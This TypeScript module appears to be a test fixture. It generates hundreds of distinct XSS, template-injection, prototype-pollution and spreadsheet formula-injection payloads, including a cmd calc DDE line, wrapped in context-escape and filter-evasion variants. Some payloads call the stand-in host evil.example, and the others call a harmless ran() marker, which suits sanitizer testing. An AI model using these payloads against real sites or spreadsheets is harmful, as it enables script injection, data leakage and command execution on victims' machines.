/** Texts that would run, load or escape somewhere if anything took them for more than texts. Each calls `ran`. */
const shapes: readonly ((call: string, n: number) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg><script href="data:,${call}"/>`,
  (call) => `<iframe srcdoc="<script>${call}</script>">`,
  (call) => `<a href="javascript:${call}">x</a>`,
  (call) => `javascript:${call}`,
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `<details open ontoggle=${call}>x`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<video><source onerror=${call}></video>`,
  (call) => `<body onpageshow=${call}>`,
  (call) => `<object data="data:text/html,<script>${call}</script>">`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (_, n) => `<link rel=stylesheet href=//evil.example/${n}>`,
  (_, n) => `<style>@import'//evil.example/${n}'</style>`,
  (_, n) => `<base href=//evil.example/${n}/>`,
  (call) => `<math><mi xlink:href="javascript:${call}">x`,
  (call) => `<template><img src=x onerror=${call}></template>`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `\${${call}}`,
  (_, n) => `=HYPERLINK("http://evil.example/${n}","x")`,
  (_, n) => `@SUM(1+${n})*cmd|' /C calc'!A0`,
  (call) => `{"__proto__":{"x":"${call}"}}`,
  (call) => `%3Cscript%3E${call}%3C/script%3E`,
];
/** What it may break out of first. */
const exits: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `">${payload}`,
  (payload) => `'>${payload}`,
  (payload) => `\`>${payload}`,
  (payload) => `-->${payload}`,
  (payload) => `]]>${payload}`,
  (payload) => `</textarea>${payload}`,
  (payload) => `</title>${payload}`,
  (payload) => `</script>${payload}`,
  (payload) => `</style>${payload}`,
  (payload) => `" ${payload} x="`,
  (payload) => `' ${payload} x='`,
  (payload) => `\\";${payload}//`,
  (payload) => `{{{${payload}}}}`,
  (payload) => `$t(${payload})`,
  (payload) => payload.replaceAll('<', '&lt;'),
  (payload) => payload.replaceAll('<', '\\u003c'),
  (payload) => payload.replaceAll('script', 'ScRiPt'),
  (payload) => payload.replaceAll('<', '<\u200d'),
  (payload) => payload.replaceAll('<', '＜'),
];

/** All of them, each like no other. */
export const payloads: readonly string[] = exits.flatMap((exit, way) =>
  shapes.map((shape, at) => {
    const n = way * shapes.length + at;
    return exit(shape(`ran(${n})`, n));
  }),
);
